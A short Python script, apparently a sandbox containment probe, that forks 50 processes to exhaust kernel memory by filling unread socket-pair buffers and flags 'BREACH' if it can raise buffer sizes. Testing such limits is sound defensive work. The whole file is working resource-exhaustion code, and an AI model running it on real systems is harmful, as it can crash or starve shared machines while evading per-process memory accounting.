# Tries to take gigabytes of the kernel's memory: letters in sockets that nobody reads are in no process's count.
import os
import socket
import time

for _ in range(50):
    if os.fork() == 0:
        held = []
        try:
            while True:
                ends = socket.socketpair()
                held.append(ends)
                for end in ends:
                    end.setblocking(False)
                    try:
                        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                        print('BREACH larger buffers')
                    except PermissionError:
                        pass
                    try:
                        while True:
                            end.send(bytes(65536))
                    except BlockingIOError:
                        pass
        except OSError:
            time.sleep(5)
        os._exit(0)
time.sleep(4)
